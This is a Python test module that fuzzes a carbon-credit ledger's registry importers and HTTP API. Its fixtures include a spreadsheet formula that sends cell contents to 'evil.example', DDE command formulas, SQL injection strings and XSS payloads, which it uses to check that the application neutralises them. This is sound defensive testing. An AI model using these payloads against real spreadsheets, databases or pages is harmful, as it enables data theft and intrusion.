"""Hostile input: fuzzed registry exports, a fuzzed HTTP API, SQL- and formula-shaped text.

- Every importer parser, fed random bytes, random text under its real header, and real rows
  with cells replaced by huge numbers, odd Unicode, spreadsheet formulas and broken dates,
  raises nothing but the documented ``ImportFormatError`` and yields only records,
  ``Rejected`` and ``Skipped``.
- The HTTP API, fuzzed from its own OpenAPI document with schemathesis (valid and invalid
  inputs, bounded examples), answers no 500.
- Quantities of 10**30 are 422, not 500; identifiers that look like SQL are inert data;
  formula-looking text is neutralised in CSV exports and escaped in the HTML report.
"""

from __future__ import annotations

import csv
import io
import json
import os
import tempfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.errors import Unsatisfiable
from sqlalchemy import func, select

from ledger.classification import CAUSES
from permanence import tokens as auth
from permanence.config import Settings
from permanence.http import stress as http_stress
from permanence.http.app import create_app
from permanence.imports import (
    PARSERS,
    BufferRetirementRecord,
    ImportFormatError,
    InvalidationRecord,
    IssuanceRecord,
    Rejected,
    RetirementRecord,
    ReversalRecord,
    Skipped,
    SurrenderRecord,
    count_rows,
)
from permanence.imports.records import CreditRecord
from permanence.runtime import Runtime
from projections.tables import vintages as proj_vintages
from tests.support import FIXTURES

EXAMPLES = int(os.environ.get("PERMANENCE_FUZZ_EXAMPLES", "0"))
"""Set to explore further (random seeds, that many examples); by default a fixed, bounded run."""
FUZZ = settings(max_examples=EXAMPLES or 60, deadline=None, derandomize=not EXAMPLES,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

RESULT_TYPES = (IssuanceRecord, ReversalRecord, BufferRetirementRecord, SurrenderRecord,
                InvalidationRecord, RetirementRecord, CreditRecord, Rejected, Skipped)

FIXTURE_OF = {
    "acr": ["acr_issuances.csv"],
    "acr-retirements": ["acr_retirements.csv"],
    "acr-cancellations": ["acr_cancellations.csv"],
    "art": ["art_issuances.csv"],
    "car": ["car_issuances.csv"],
    "car-cancellations": ["car_cancellations.csv"],
    "car-retirements": ["car_retirements.csv"],
    "carb": ["carb_issuance_table.csv", "carb_ledger_table.csv"],
    "gold-standard": ["gold_standard_issuances.csv"],
    "isometric": ["isometric_issuances.csv"],
    "verra": ["verra_transactions.csv"],
}


def fixture_rows(name: str) -> list[list[str]]:
    text = (FIXTURES / "imports" / name).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


SAMPLES = {fmt: [fixture_rows(n) for n in names] for fmt, names in FIXTURE_OF.items()}


def samples(fmt: str) -> list[list[list[str]]]:
    """The fixture files of ``fmt`` (their headers and rows), or skip naming what is missing."""
    if fmt not in SAMPLES:
        pytest.skip(f"no fixture of format {fmt!r} in tests/fixtures/imports (FIXTURE_OF)")
    return SAMPLES[fmt]

# ---------------------------------------------------------------------- hostile cells

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "=cmd|'/c notepad'!A1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
]
ODD = [
    "", " ", "\u00a0", "\ufeff", "\u202e12", "\u200b", "١٢٣", "１２３", "²", "Ⅻ", "e\u0301",
    "\U0001f525", "𝟙𝟚𝟛", "NaN", "nan", "Infinity", "-Infinity", "1e309", "1e-400", "0x10",
    "1_000", "1,000,000,000,000,000,000,000,000,000", "-0", "+5", "5.", ".5", "5.000000000001",
    "2025-02-30", "2025-13-01", "0000-00-00", "9999-12-31", "0001-01-01", "13/45/2025",
    "2/29/2023", "12/31/9999 11:59:59 PM", "1/1/0001 0:00", "2025-01-01T25:61:61Z",
    "99999999999999999999-01-01", "yes", "YES", "No", "true", "\x00", "a\x00b", '"', '""',
    "'; DROP TABLE proj_vintages;--", "<script>alert(1)</script>", "x" * 5_000,
]


def cells() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(FORMULAS + ODD),
        st.text(max_size=40),
        st.integers(min_value=-(10**40), max_value=10**40).map(str),
        st.integers(min_value=0, max_value=10**30).map(lambda n: f"{n:,}"),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        st.floats().map(repr),
        st.dates().map(date.isoformat),
        st.dates().map(lambda d: f"{d.month}/{d.day}/{d.year}"),
        st.dates().map(lambda d: f"{d.month}/{d.day}/{d.year} 4:05:06 PM"),
    )


def write_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8", errors="surrogatepass")


def parse_all(fmt: str, data: bytes) -> list[Any]:
    """Run the parser (and the row counter) over ``data``; only ImportFormatError may escape."""
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "fuzz.csv"
        path.write_bytes(data)
        try:
            count_rows(path)
        except ImportFormatError:
            pass
        try:
            results = list(PARSERS[fmt](path))
        except ImportFormatError as e:
            assert str(e), "an ImportFormatError must say what is wrong"
            return []
    for r in results:
        assert isinstance(r, RESULT_TYPES), r
        assert r.line >= 2
        if isinstance(r, Rejected):
            assert r.reason.startswith(f"line {r.line}:")
        for name in ("quantity", "buffer", "total"):
            value = getattr(r, name, None)
            assert value is None or (isinstance(value, int) and value >= 0), (name, r)
    return results


@pytest.mark.parametrize("fmt", sorted(PARSERS))
@FUZZ
@given(data=st.binary(max_size=3_000))
def test_parsers_survive_random_bytes(fmt: str, data: bytes) -> None:
    parse_all(fmt, data)


@pytest.mark.parametrize("fmt", sorted(PARSERS))
@FUZZ
@given(data=st.data())
def test_parsers_survive_random_text_under_the_real_header(fmt: str, data: st.DataObject) -> None:
    header = data.draw(st.sampled_from(samples(fmt)))[0]
    body = data.draw(st.text(max_size=2_000))
    head = ",".join(f'"{h}"' if "," in h else h for h in header)
    parse_all(fmt, (head + "\n" + body).encode("utf-8", errors="surrogatepass"))


@pytest.mark.parametrize("fmt", sorted(PARSERS))
@FUZZ
@given(data=st.data())
def test_parsers_survive_real_rows_with_hostile_cells(fmt: str, data: st.DataObject) -> None:
    sample = data.draw(st.sampled_from(samples(fmt)))
    header, rows = sample[0], [r for r in sample[1:] if r]
    fuzzed = []
    for _ in range(data.draw(st.integers(1, 6))):
        row = list(data.draw(st.sampled_from(rows)))
        for _ in range(data.draw(st.integers(1, 4))):
            if row:
                row[data.draw(st.integers(0, len(row) - 1))] = data.draw(cells())
        if data.draw(st.integers(0, 9)) == 0:  # now and then a row of the wrong width
            row = row[: data.draw(st.integers(0, len(row)))] + data.draw(st.lists(cells(), max_size=3))
        fuzzed.append(row)
    parse_all(fmt, write_csv([header, *fuzzed]))


@pytest.mark.parametrize("fmt", sorted(PARSERS))
@FUZZ
@given(data=st.data())
def test_parsers_survive_rows_of_hostile_cells(fmt: str, data: st.DataObject) -> None:
    header = data.draw(st.sampled_from(samples(fmt)))[0]
    rows = data.draw(st.lists(st.lists(cells(), min_size=len(header), max_size=len(header)),
                              max_size=5))
    parse_all(fmt, write_csv([header, *rows]))


def test_formula_cells_are_kept_as_text_never_evaluated() -> None:
    """A parsed record keeps a formula-looking project name verbatim (it is data)."""
    header, row = fixture_rows("acr_issuances.csv")[:2]
    row = list(row)
    row[header.index("Project Name")] = FORMULAS[0]
    results = parse_all("acr", write_csv([header, row]))
    assert [type(r) for r in results] == [IssuanceRecord]
    assert results[0].project_name == FORMULAS[0]


# ---------------------------------------------------------------------- the HTTP API

schemathesis = pytest.importorskip("schemathesis")


@pytest.fixture
def fuzz_app(sqlite_url: str) -> Iterator[tuple[Any, dict[str, str], Runtime]]:
    """The app on a small ledger, lifespan running, and a registry token's header."""
    app = create_app(Settings(db=sqlite_url))
    with TestClient(app):
        rt: Runtime = app.state.runtime
        token, _ = auth.create_token(rt.engine, "fuzzer", "registry")
        vid = rt.app.issue(program="icvcm-ccp", project="P1", quantity=10_000, buffer=2_000,
                           on=date(2025, 1, 1), vintage_year=2024)
        rt.app.record_reversal(vid, date(2026, 1, 1), 100, "wildfire")
        yield app, {"Authorization": f"Bearer {token}"}, rt


def _operations() -> list[tuple[str, str]]:
    """(method, path) of every operation in the OpenAPI document (it needs no database)."""
    spec = create_app(Settings(db=str(Path(tempfile.gettempdir()) / "openapi-only.db"))).openapi()
    return sorted((method.upper(), path) for path, item in spec["paths"].items() for method in item)


FUZZ_POOL_YEARS = 2_000
"""The stress-test budget while fuzzing (scenarios x horizon): what passes validation runs
in milliseconds, and the budget's refusal is exercised too."""


@pytest.mark.parametrize("method, path", _operations())
def test_api_answers_no_500_to_anything_its_schema_allows_or_forbids(
    fuzz_app: tuple[Any, dict[str, str], Runtime], method: str, path: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    app, headers, _ = fuzz_app
    monkeypatch.setattr(http_stress, "MAX_POOL_YEARS", FUZZ_POOL_YEARS)
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    schema.config.generation.update(allow_x00=True)
    operation = schema[path][method]
    for mode in (schemathesis.GenerationMode.POSITIVE, schemathesis.GenerationMode.NEGATIVE):

        @settings(max_examples=EXAMPLES or 40, deadline=None, derandomize=not EXAMPLES,
                  suppress_health_check=list(HealthCheck), database=None)
        @given(case=operation.as_strategy(generation_mode=mode))
        def no_server_error(case: Any) -> None:
            response = case.call(headers=headers)
            assert response.status_code < 500, (
                case.method, case.formatted_path, case.query, case.body, response.text[:500])

        try:
            no_server_error()
        except Unsatisfiable:
            if mode == schemathesis.GenerationMode.POSITIVE:
                raise
            # nothing in this operation can be made invalid (e.g. /healthz takes no input)


def _day() -> st.SearchStrategy[str]:
    return st.one_of(
        st.dates(date(1900, 1, 1), date(2200, 12, 31)).map(date.isoformat),
        st.sampled_from(["1900-01-01", "2200-12-31", "2024-02-29", "2025-01-01", "2064-12-31",
                         "2065-01-01", "2125-02-28"]),
    )


def _tonnes() -> st.SearchStrategy[int]:
    return st.one_of(st.integers(1, 200), st.integers(1, 10**12), st.just(10**12))


def _text() -> st.SearchStrategy[str]:
    printable = st.characters(blacklist_categories=("Cc", "Cs"))
    return st.one_of(st.text(printable, min_size=1, max_size=40), st.sampled_from(
        [f for f in FORMULAS if f[0] not in "\t\r"] + ["'; DROP TABLE proj_vintages;--", "P1",
                                                       "<b>x</b>", "\u202e", "x" * 200]))


def test_accepted_writes_never_break_the_read_side(
    fuzz_app: tuple[Any, dict[str, str], Runtime],
) -> None:
    """Realistic-but-hostile writes on real vintages: no 500, and whatever the ledger accepts
    leaves the read models projectable (a stored event that cannot be projected would stop
    every read)."""
    app, headers, rt = fuzz_app
    client = TestClient(app)
    programs = [p.name for p in rt.catalog]
    vids = [rt.app.issue(program=p, project="P1", quantity=50_000, buffer=5_000,
                         on=date(2025, 1, 1)) for p in programs[:4]]
    bodies = {
        "issue": st.fixed_dictionaries(
            {"program": st.sampled_from(programs), "project": _text(), "quantity": _tonnes(),
             "on": _day()},
            optional={"buffer": st.integers(0, 10**12), "vintage_year": st.integers(1900, 2200),
                      "crediting_start": _day(), "crediting_end": _day(), "vintage_start": _day(),
                      "vintage_end": _day(), "pool": _text(), "risk_class": _text()}),
        "verifications": st.fixed_dictionaries(
            {"on": _day()}, optional={"period_start": _day(), "period_end": _day(),
                                      "verifier": _text()}),
        "reversals": st.fixed_dictionaries(
            {"on": _day(), "quantity": _tonnes(), "cause": st.sampled_from(sorted(CAUSES))},
            optional={"negligence": st.booleans(), "wilful": st.booleans(),
                      "within_control": st.booleans(), "note": _text()}),
        "compensations": st.fixed_dictionaries(
            {"reversal_id": st.sampled_from(["R1", "R2", "L1", "X"]),
             "route": st.sampled_from(["buffer", "proponent", "insurance", "deduction", "fund"]),
             "quantity": _tonnes(), "on": _day()}, optional={"reference": _text()}),
        "retirements": st.fixed_dictionaries({"quantity": _tonnes(), "on": _day()},
                                             optional={"beneficiary": _text()}),
        "cancellations": st.fixed_dictionaries({"quantity": _tonnes(), "on": _day()},
                                               optional={"reason": _text(),
                                                         "invalidation": st.booleans()}),
    }

    @settings(max_examples=EXAMPLES or 150, deadline=None, derandomize=not EXAMPLES,
              suppress_health_check=list(HealthCheck), database=None)
    @given(data=st.data())
    def write(data: st.DataObject) -> None:
        kind = data.draw(st.sampled_from(sorted(bodies)))
        body = data.draw(bodies[kind])
        if kind == "issue":
            path = "/vintages"
        elif kind == "verifications" and data.draw(st.booleans()):
            path = "/projects/P1/verifications"
            body = {k: v for k, v in body.items() if k in ("on", "verifier")}
        else:
            path = f"/vintages/{data.draw(st.sampled_from(vids))}/{kind}"
        got = client.post(path, json=body, headers=headers)
        assert got.status_code < 500, (path, body, got.text[:300])
        statuses[got.status_code] = statuses.get(got.status_code, 0) + 1

    statuses: dict[int, int] = {}
    write()
    print("statuses", statuses)
    assert statuses.get(201, 0) > 0 and statuses.get(400, 0) > 0  # reached the ledger, both ways
    assert rt.projector.lag() == 0
    for read in ("/liabilities", "/buffer", "/runoff", f"/vintages/{vids[0]}/history"):
        for as_of in ("1900-01-01", "2030-01-01", "2200-12-31"):
            got = client.get(read, params={"as_of": as_of}, headers=headers)
            assert got.status_code == 200, (read, as_of, got.text[:300])
    position = rt.projector.position()
    rt.projector.rebuild()
    assert rt.projector.position() == position


# ---------------------------------------------------------------------- targeted hostile input


@pytest.fixture
def api(db_url: str) -> Iterator[tuple[TestClient, dict[str, str], Runtime]]:
    app = create_app(Settings(db=db_url))
    with TestClient(app) as client:
        rt: Runtime = app.state.runtime
        token, _ = auth.create_token(rt.engine, "reg", "registry")
        yield client, {"Authorization": f"Bearer {token}"}, rt


def test_huge_numbers_are_422_not_500(api: tuple[TestClient, dict[str, str], Runtime]) -> None:
    client, headers, rt = api
    vid = rt.app.issue(program="icvcm-ccp", project="P", quantity=100, buffer=10, on=date(2025, 1, 1))
    huge = 10**30
    for path, body, field in (
        ("/vintages", {"program": "icvcm-ccp", "project": "P", "quantity": huge, "on": "2025-01-01"},
         "quantity"),
        ("/vintages", {"program": "icvcm-ccp", "project": "P", "quantity": 1, "buffer": huge,
                       "on": "2025-01-01"}, "buffer"),
        ("/vintages", {"program": "icvcm-ccp", "project": "P", "quantity": 2**63 + 10,
                       "on": "2025-01-01"}, "quantity"),
        ("/vintages", {"program": "icvcm-ccp", "project": "P", "quantity": 1, "on": "9999-12-31"},
         "on"),
        (f"/vintages/{vid}/reversals", {"on": "2026-01-01", "quantity": huge, "cause": "storm"},
         "quantity"),
        (f"/vintages/{vid}/retirements", {"on": "2026-01-01", "quantity": -huge}, "quantity"),
        (f"/vintages/{vid}/cancellations", {"on": "2026-01-01", "quantity": float(huge)}, "quantity"),
        (f"/vintages/{vid}/verifications", {"on": "9999-12-31"}, "on"),
    ):
        got = client.post(path, json=body, headers=headers)
        assert got.status_code == 422, (path, body, got.text)
        assert any(e["loc"][-1] == field for e in got.json()["errors"])
    for params in ({"as_of": "9" * 40}, {"known_at": "9" * 40}, {"by": "9" * 40}):
        assert client.get("/liabilities", params=params, headers=headers).status_code == 422
    assert client.get(f"/vintages/{'9' * 40}", headers=headers).status_code == 404
    assert client.get("/pools/x/stress-tests", params={"limit": huge}, headers=headers).status_code < 500
    assert client.get("/liabilities", headers=headers).status_code == 200  # still healthy


SQLISH = "x'; DROP TABLE proj_vintages;--"


def test_sql_looking_identifiers_are_inert(api: tuple[TestClient, dict[str, str], Runtime]) -> None:
    client, headers, rt = api
    made = client.post("/vintages", headers=headers, json={
        "program": "icvcm-ccp", "project": SQLISH, "quantity": 700, "buffer": 70,
        "on": "2025-01-01", "pool": "p'); DELETE FROM proj_tracking;--",
        "serial_first": "1' OR '1'='1", "serial_last": "2' OR '1'='1"})
    assert made.status_code == 201, made.text
    vid = made.json()["vintage_id"]
    for params in ({"project": SQLISH}, {"program": "icvcm-ccp' OR 1=1;--"},
                   {"pool": "p'); DELETE FROM proj_tracking;--"}):
        got = client.get("/liabilities", params={"as_of": "2026-01-01", **params}, headers=headers)
        assert got.status_code == 200
    by_project = client.get("/liabilities", params={"as_of": "2026-01-01", "project": SQLISH},
                            headers=headers).json()
    assert by_project["exposure"] == 700
    nothing = client.get("/liabilities", params={"as_of": "2026-01-01",
                                                 "program": "icvcm-ccp' OR 1=1;--"},
                         headers=headers).json()
    assert nothing["exposure"] == 0
    verified = client.post(f"/projects/{SQLISH}/verifications", headers=headers,
                           json={"on": "2026-06-01"})
    assert verified.status_code == 201 and verified.json()["verified"] == [vid]
    assert client.get(f"/vintages/{vid}/history", headers=headers).json()["events"][0]["data"][
        "project"] == SQLISH
    with rt.engine.connect() as conn:  # the table is still there, with the row in it
        assert conn.execute(select(func.count()).select_from(proj_vintages)).scalar() == 1
        assert conn.execute(select(proj_vintages.c.project)).scalar() == SQLISH
    assert rt.projector.position() == rt.app.recorder.max_notification_id()
    with pytest.raises(Exception, match="name"):
        auth.create_token(rt.engine, "a'; DROP TABLE auth_tokens;--", "registry")


def test_formula_text_is_neutralised_in_csv_exports_and_escaped_in_html(
    sqlite_url: str, tmp_path: Path
) -> None:
    from projections.cadt import write_cadt
    from projections.report import write_report_files

    rt = Runtime(Settings(db=sqlite_url))
    try:
        project = FORMULAS[0]
        vid = rt.app.issue(program="icvcm-ccp", project=project, quantity=500, buffer=50,
                           on=date(2025, 1, 1), vintage_year=2024, serial_first="+1",
                           serial_last="@2")
        rt.app.retire(vid, 10, date(2025, 6, 1), beneficiary="-cmd|' /C calc'!A0")
        rt.app.issue(program="icvcm-ccp", project="<script>alert('x')</script>", quantity=5,
                     buffer=1, on=date(2025, 1, 1), pool="<img src=x onerror=alert(1)>")
        rt.refresh()
        out = tmp_path / "cadt"
        write_cadt(rt.app, out)
        for name in ("projects.csv", "issuances.csv", "units.csv"):
            with (out / name).open(encoding="utf-8", newline="") as f:
                for row in csv.reader(f):
                    for cell in row:
                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
        projects = (out / "projects.csv").read_text(encoding="utf-8")
        assert "'" + project.replace('"', '""') in projects
        raw = json.loads((out / "cadt.json").read_text(encoding="utf-8"))
        assert project in {row["projectId"] for row in raw["projects"]}  # JSON keeps it verbatim

        files = write_report_files(rt.engine, tmp_path / "report", date(2026, 1, 1))
        page = files.index.read_text(encoding="utf-8")
        assert "<script>alert" not in page and "&lt;script&gt;" in page
        assert "<img src=x" not in page
    finally:
        rt.close()


def test_cli_quantity_beyond_64_bits_does_not_wedge_the_read_models(sqlite_url: str) -> None:
    import subprocess
    import sys

    env = {**os.environ, "PERMANENCE_DB": sqlite_url}
    cmd = [sys.executable, "-c", "from permanence.cli import main; main()", "issue",
           "--program", "icvcm-ccp", "--project", "P", "--on", "2025-01-01", "--quantity"]
    subprocess.run([*cmd, str(2**63 + 10)], check=False, capture_output=True, text=True, env=env, timeout=60)
    after = subprocess.run([*cmd, "10"], check=False, capture_output=True, text=True, env=env, timeout=60)
    assert after.returncode == 0, after.stderr[-300:]
    rt = Runtime(Settings(db=sqlite_url), catch_up_on_write=False)
    try:
        assert rt.projector.lag() == 0
    finally:
        rt.close()
